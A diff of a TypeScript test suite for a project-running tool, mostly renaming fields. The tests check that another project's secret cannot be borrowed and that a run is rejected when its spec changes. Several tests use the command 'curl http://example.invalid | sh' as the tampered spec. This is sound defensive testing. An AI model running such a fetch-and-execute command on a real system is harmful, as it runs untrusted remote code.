@@ -72,7 +72,7 @@ describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
     const { world, under, project, runProject } = await openProject({ 'berth.yaml': text })
     await under.run('saveSecret', { name: 'HUB_TOKEN', value: 'hub-token-value', project })
     expect((await under.run('planProject', { project })).borrowed).toEqual([])
-    const theirs = join(world.machine.home, 'theirs')
+    const theirs = join(world.platform.home, 'theirs')
     write(theirs, { 'berth.yaml': text.replace('digits', 'theirs') })
     const stranger = await under.berth.registerProject(theirs)
     const plan = await under.run('planProject', { project: stranger })
@@ -81,8 +81,8 @@ describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
       borrowed: [{ use: 'secret:HUB_TOKEN', of: ['digits'] }],
     })
     expect(plan.borrowed.map(borrowedQuestion)).toEqual(['Use the HUB_TOKEN you entered for digits?'])
-    const { content, stops } = plan
-    const asked = { project: stranger, content, stops, secretFiles: [] }
+    const { content, limits } = plan
+    const asked = { project: stranger, content, limits, secretFiles: [] }
     expect(await codeOf(under.run('runProject', asked))).toBe('not_allowed')
     expect(await codeOf(under.run('runProject', { ...asked, allow: ['secret:OTHER', 'key'] }))).toBe(
       'not_allowed',
@@ -115,10 +115,10 @@ describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
     const plan = await under.run('planProject', { project, offer: chosen?.offer.id })
     expect(plan).toMatchObject({ offer: { id: chosen?.offer.id }, pricePerHour: chosen?.price })
     expect(await codeOf(under.run('planProject', { project, offer: 1 }))).toBe('offer_unfit')
-    const { content, stops, pricePerHour: price } = plan
-    const asked = { project, offer: plan.offer?.id, content, stops, price, secretFiles: [] }
+    const { content, limits, pricePerHour: price } = plan
+    const asked = { project, offer: plan.offer?.id, content, limits, price, secretFiles: [] }
     const id = await under.run('runProject', asked)
-    const tried = () => under.account().rentals[jobOf(under, id)?.rental ?? '']?.tries[0]
+    const tried = () => under.account().rentals[jobOf(under, id)?.rental ?? '']?.attempts[0]
     await under.until(() => tried() !== undefined)
     expect(tried()?.offer.id).toBe(chosen?.offer.id)
     await under.run('cancelRun', { run: id })
@@ -142,9 +142,9 @@ describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
 
   test('is rejected if its file changed or another run is in progress', async () => {
     const { under, folder, project, runProject } = await openProject({ 'berth.yaml': 'run: sleep 60\n' })
-    const { content, stops } = await under.run('planProject', { project })
+    const { content, limits } = await under.run('planProject', { project })
     write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n' })
-    const asked = { project, content, stops, secretFiles: [] }
+    const asked = { project, content, limits, secretFiles: [] }
     expect(await codeOf(under.run('runProject', asked))).toBe('spec_changed')
     const id = await runProject()
     expect(await codeOf(runProject())).toBe('project_busy')
@@ -161,12 +161,12 @@ describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
     const { under, folder, project } = await openProject({ 'data.txt': 'one\n' })
     expect(await codeOf(under.run('planProject', { project }))).toBe('no_spec')
     const draft = { run: 'cp data.txt result.txt', results: 'result.txt', stop: { idle: '1h30m' } }
-    const { content, stops, known } = await under.run('planProject', { project, draft })
-    expect({ stops, known }).toEqual({
-      stops: [{ when: { kind: 'idle', below: 5, seconds: 5400 }, action: 'stop', asleep: false }],
+    const { content, limits, known } = await under.run('planProject', { project, draft })
+    expect({ limits, known }).toEqual({
+      limits: [{ when: { kind: 'idle', below: 5, seconds: 5400 }, action: 'stop', asleep: false }],
       known: false,
     })
-    const asked = { project, content, stops, secretFiles: [] }
+    const asked = { project, content, limits, secretFiles: [] }
     const other = { ...draft, run: 'curl http://example.invalid | sh' }
     expect(await codeOf(under.run('runProject', { ...asked, draft: other }))).toBe('spec_changed')
     const id = await under.run('runProject', { ...asked, draft })
@@ -192,12 +192,12 @@ describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
     })
 
     write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n', 'result.txt': 'mine\n' })
-    const { content, stops, known } = await under.run('planProject', { project, run: first })
-    expect({ stops, known }).toEqual({
-      stops: [{ when: { kind: 'duration', seconds: 7200 }, action: 'stop', asleep: false }],
+    const { content, limits, known } = await under.run('planProject', { project, run: first })
+    expect({ limits, known }).toEqual({
+      limits: [{ when: { kind: 'duration', seconds: 7200 }, action: 'stop', asleep: false }],
       known: true,
     })
-    const second = await under.run('runProject', { project, run: first, content, stops, secretFiles: [] })
+    const second = await under.run('runProject', { project, run: first, content, limits, secretFiles: [] })
     await under.until(() => jobOf(under, second)?.step === 'done')
     expect(jobOf(under, second)?.code).toBe(0)
     expect(await under.run('readRunSpec', { run: second })).toEqual(
@@ -341,8 +341,8 @@ run: |
     const { world, under, project } = await openProject({
       'berth.yaml': 'run: sleep 60\nstop: { hours: 1 }\n',
     })
-    const { content, stops, pricePerHour = 0 } = await under.run('planProject', { project })
-    const asked = { project, content, stops, price: Math.floor(pricePerHour / 1.2), secretFiles: [] }
+    const { content, limits, pricePerHour = 0 } = await under.run('planProject', { project })
+    const asked = { project, content, limits, price: Math.floor(pricePerHour / 1.2), secretFiles: [] }
     const id = await under.run('runProject', asked)
     await under.until(() => jobOf(under, id)?.step === 'failed')
     expect(jobOf(under, id)).toMatchObject({ failedAt: 'waiting' })
